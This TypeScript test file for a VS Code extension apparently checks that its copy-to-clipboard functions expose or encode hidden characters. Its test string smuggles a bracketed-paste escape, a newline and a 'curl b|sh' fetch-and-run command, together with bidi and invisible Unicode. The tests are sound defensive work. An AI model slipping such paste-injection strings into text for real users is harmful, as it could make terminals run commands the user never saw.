import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { hasHidden } from '../../../src/base/text/text';
import { copyContents, copyUris } from '../../../src/resources/commands/copyResources';
import type { FoundDocument } from '../../../src/resources/documents/resourceDocument';
import type { ResourceTarget } from '../../../src/resources/targets';
import { copyAddresses, copyDocument, copyJson, copyText } from '../../../src/ui/clipboard';
import { nastyTexts } from '../../support/fakes/nastyTexts';

const { clipboard } = vscode.env;
const evil = 'x:a\r\u001B[201~\ncurl b|sh\u202E\u200B\u{E0041}';

const targetOf = (uri: string) => ({ resource: { uri } }) as unknown as ResourceTarget;
const documentOf = (text: string) =>
  ({
    document: { kind: 'text', bytes: new TextEncoder().encode(text) },
  }) as unknown as FoundDocument;

describe('what is copied', () => {
  /** Each way to copy, and what it copies of a text that is worse than it looks. */
  const ways: Readonly<
    Record<string, readonly [copy: (text: string) => Promise<void>, of: string]>
  > = {
    'a text': [copyText, 'x:a⟨U+000D⟩⟨U+001B⟩[201~\ncurl b|sh⟨U+202E⟩⟨U+200B⟩⟨U+E0041⟩'],
    'an address': [copyAddresses, 'x:a%0D%1B[201~%0Acurl b|sh%E2%80%AE%E2%80%8B%F3%A0%81%81'],
    'the URI of a resource': [
      (uri) => copyUris([targetOf(uri)]),
      'x:a%0D%1B[201~%0Acurl b|sh%E2%80%AE%E2%80%8B%F3%A0%81%81',
    ],
    JSON: [
      (text) => copyJson(JSON.stringify(text)),
      String.raw`"x:a\r\u001b[201~\ncurl b|sh\u202e\u200b\udb40\udc41"`,
    ],
  };
  for (const [what, [copy, expected]] of Object.entries(ways)) {
    it(`is seen whole where it is ${what}`, async () => {
      await copy(evil);
      assert.equal(await clipboard.readText(), expected);
      for (const [tries, text] of nastyTexts) {
        await copy(text);
        assert.ok(!hasHidden(await clipboard.readText()), tries);
      }
    });
  }

  it('is one address a line', async () => {
    await copyUris(['a:1\n2', 'b:ü%20%1b'].map(targetOf));
    assert.equal(await clipboard.readText(), 'a:1%0A2\nb:ü%20%1b');
  });

  it('is the same where nothing is hidden, and as the document has it but for what a terminal acts on', async () => {
    const text = '\uFEFFa\r\n\tb 👩\u200D💻';
    for (const copy of [copyDocument, (one: string) => copyContents([documentOf(one)])]) {
      await copy(text);
      assert.equal(await clipboard.readText(), text);
      await copy(`${text}\u001B]0;c\u0007\u009B1m`);
      assert.equal(await clipboard.readText(), `${text}⟨U+001B⟩]0;c⟨U+0007⟩⟨U+009B⟩1m`);
    }
    await copyText('a\r\n\tb ü👍🏽');
    assert.equal(await clipboard.readText(), 'a\r\n\tb ü👍🏽');
  });
});
